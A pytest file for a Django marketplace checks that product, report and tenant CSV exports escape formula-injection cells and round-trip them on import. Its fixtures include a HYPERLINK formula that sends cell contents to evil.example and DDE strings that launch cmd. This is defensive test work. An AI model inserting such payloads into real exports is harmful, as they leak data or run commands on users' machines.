"""Every CSV export escapes text a spreadsheet would run as a formula (a leading ``=``, ``+``,
``-``, ``@``, tab or carriage return gets an apostrophe), through one writer
(``core.safe_csv``); numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django_tenants.utils import schema_context

from core import safe_csv
from core.catalog.models import Product
from core.catalog.services.products import ProductData, create_product
from core.commerce.models import Refund
from tests.accounts_helpers import call, make_user, sign_in, signed_in_operator
from tests.catalog_helpers import make_seller
from tests.commerce_documents_helpers import Item, make_paid_order, make_refund

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click for details")'
FEBRUARY = datetime(2025, 2, 10, 12, 0, tzinfo=UTC)
MARCH = datetime(2025, 3, 10, 12, 0, tzinfo=UTC)


def rows_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"))))


def test_the_writer_escapes_formula_text_and_leaves_numbers_alone():
    buffer = io.StringIO()
    safe_csv.writer(buffer).writerow(
        ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "plain", "", -5, Decimal("-12.50"), 7]
    )
    assert rows_of(buffer.getvalue().encode()) == [
        ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "plain", "", "-5", "-12.50", "7"]
    ]
    assert [safe_csv.unescape_cell(v) for v in ("'=1+1", "'\tx", "'plain", "it's")] == [
        "=1+1",
        "\tx",
        "'plain",
        "it's",
    ]


def test_the_product_export_escapes_hostile_cells_and_imports_back_unchanged(client_for, tenant_a):
    seller = make_seller(tenant_a, "acme")
    with schema_context(tenant_a.schema_name):
        product = create_product(
            seller=seller,
            data=ProductData(
                name=HYPERLINK,
                product_type="software",
                prices={"USD": 1999},
                summary="+cmd|' /C calc'!A0",
                description="- first feature\n- second feature",
                tags=["cli"],
                features=["@SUM(1+1)", "Fast"],
                trial_days=14,
            ),
        )
    client = client_for(tenant_a)
    assert sign_in(client, "acme@example.com").json()["status"] == "signed_in"

    exported = client.get("/api/v1/seller/products/export.csv")
    header, row = rows_of(exported.content)
    cells = dict(zip(header, row, strict=True))

    assert exported.status_code == 200
    assert cells["name"] == "'" + HYPERLINK
    assert cells["summary"] == "'+cmd|' /C calc'!A0"
    assert cells["description"] == "'- first feature\n- second feature"
    assert cells["features"] == "'@SUM(1+1)|Fast"
    assert (cells["trial_days"], cells["price_USD"], cells["slug"]) == ("14", "19.99", product.slug)

    # The file goes back in as it came out: the apostrophes are the export's, not the data's.
    again = client.post(
        "/api/v1/seller/products/import",
        {"file": SimpleUploadedFile("products.csv", exported.content)},
    ).json()
    assert (again["created"], again["updated"], again["errors"]) == (0, 1, [])
    with schema_context(tenant_a.schema_name):
        product.refresh_from_db()
        assert (product.name, product.summary, product.description) == (
            HYPERLINK,
            "+cmd|' /C calc'!A0",
            "- first feature\n- second feature",
        )
        assert product.features == ["@SUM(1+1)", "Fast"]
        assert Product.objects.count() == 1


def test_the_report_exports_escape_hostile_names_and_keep_negative_amounts(client_for, tenant_a):
    # A seller named like a formula (tab first: the old escaping missed it), a tax named like
    # one, and a refund in March of a February sale, so March's amounts are negative.
    seller = make_seller(tenant_a, "acme", name='\t=HYPERLINK("https://evil.example")')
    buyer = make_user(tenant_a, "buyer@example.com")
    with schema_context(tenant_a.schema_name):
        product = Product.objects.create(
            seller=seller, name="Tool", slug="tool", product_type="software"
        )
        item = Item(seller, product, "Tool", 1000, tax_rate_bp=2000, tax_name="\r=1+1")
        order = make_paid_order(buyer, [item], paid_at=FEBRUARY)
        refund = make_refund(order, {order.lines.get(): 1200})
        Refund.objects.filter(pk=refund.pk).update(created_at=MARCH)
    operator = signed_in_operator(client_for, tenant_a)[0]
    query = "?from=2025-03-01&to=2025-03-31&currency=EUR&format=csv"

    taxes = call(operator, "get", f"/operator/reports/taxes{query}")
    sales = call(operator, "get", f"/operator/reports/sales{query}")

    assert taxes.status_code == 200 and sales.status_code == 200
    tax_header, tax_row = rows_of(taxes.content)
    tax_cells = dict(zip(tax_header, tax_row, strict=True))
    assert tax_cells["tax_name"] == "'\r=1+1"
    assert (tax_cells["tax_refunded"], tax_cells["net_tax"]) == ("2.00", "-2.00")
    sales_header, sales_row = rows_of(sales.content)
    sales_cells = dict(zip(sales_header, sales_row, strict=True))
    assert sales_cells["seller_name"] == '\'\t=HYPERLINK("https://evil.example")'
    # Negative amounts are numbers, not text to escape.
    assert [sales_cells[name] for name in ("refunded", "net_commission", "net_seller_amount")] == [
        "12.00",
        "-1.00",
        "-9.00",
    ]


def test_the_marketplace_export_escapes_hostile_cells(tenant_a, tmp_path: Path):
    make_user(tenant_a, "eve@example.com", full_name="@SUM(1+1)*cmd|' /C calc'!A0")
    seller = make_seller(tenant_a, "acme", name="-2+3+cmd|' /C calc'!A0")

    call_command(
        "export_tenant", tenant_a.slug, output=tmp_path / "export.zip", stdout=io.StringIO()
    )

    with zipfile.ZipFile(tmp_path / "export.zip") as archive:
        users = rows_of(archive.read("csv/accounts.User.csv"))
        sellers = rows_of(archive.read("csv/sellers.Seller.csv"))
    eve = dict(zip(users[0], next(r for r in users if "eve@example.com" in r), strict=True))
    assert eve["full_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    acme = dict(zip(sellers[0], sellers[1], strict=True))
    assert acme["business_name"] == "'-2+3+cmd|' /C calc'!A0"
    assert acme["id"] == str(seller.pk)
